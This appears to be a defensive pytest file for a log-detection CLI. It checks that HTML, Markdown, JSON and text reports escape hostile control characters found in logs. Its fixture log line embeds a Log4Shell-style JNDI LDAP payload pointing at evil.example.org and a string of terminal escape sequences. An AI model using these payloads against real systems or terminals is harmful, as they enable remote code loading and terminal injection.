"""Hostile control characters from log lines (terminal escape sequences, BEL, BS, VT, FF, DEL,
the C1 CSI U+009B, CR) reach no report raw: `cat report.html` in a terminal must not run them.
A real scan of a real log, then every report format, as an operator produces them."""

from __future__ import annotations

import json
import re
from datetime import datetime, timezone
from pathlib import Path

import pytest

from detector.cli.root import main

NOW = "2026-11-21T12:00:00Z"
# C0 controls but LF and TAB (layout of the file itself), DEL, C1 controls
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
HOSTILE = "\x1b[2J\x1b]0;pwned\x07\x08\x0b\x0c\x7f\u009b31m\rEVIL"


def _lw(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    capsys.readouterr()
    try:
        main(list(argv))
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 1
    out, _ = capsys.readouterr()
    return code, out


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


@pytest.fixture(scope="module")
def state(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("controls")
    log = root / "logs" / "access.log"
    log.parent.mkdir()
    at = datetime(2026, 11, 21, 11, 0, tzinfo=timezone.utc).strftime("%d/%b/%Y:%H:%M:%S +0000")
    log.write_text(
        f'203.0.113.66 - - [{at}] "GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example.org%2Fa%7D HTTP/1.1" '
        f'200 9 "-" "${{jndi:ldap://evil.example.org/x}}{HOSTILE}"\n',
        encoding="utf-8",
    )
    state = root / "state" / "state.db"
    try:
        main(["scan", str(log.parent), "--state", str(state), "--now", NOW, "--format", "json"])
    except SystemExit as exc:
        assert exc.code in (0, 3)
    return state


@pytest.mark.parametrize("fmt", ["html", "md", "json"])
def test_no_report_format_carries_a_raw_control_character(
    state: Path, fmt: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out = _lw(capsys, "report", "escalation", "--state", str(state), "--format", fmt,
                    "--since", "2026-11-20", "--until", "2026-11-22", "--now", "2026-11-22T00:00:00Z")
    assert code == 0
    assert "evil.example.org" in out  # the hostile line is in the report ...
    assert RAW_CONTROL.findall(out) == []  # ... with no control character left raw
    if fmt == "json":
        assert any(HOSTILE in text for text in _strings(json.loads(out)))  # exact text, as JSON escapes
    else:
        assert "\\x1b[2J" in out  # shown, visibly, as what it was


def test_text_listings_escape_controls_too(state: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for argv in (["findings"], ["incidents", "list", "--now", NOW]):
        code, out = _lw(capsys, *argv, "--state", str(state))
        assert code == 0 and RAW_CONTROL.findall(out) == []
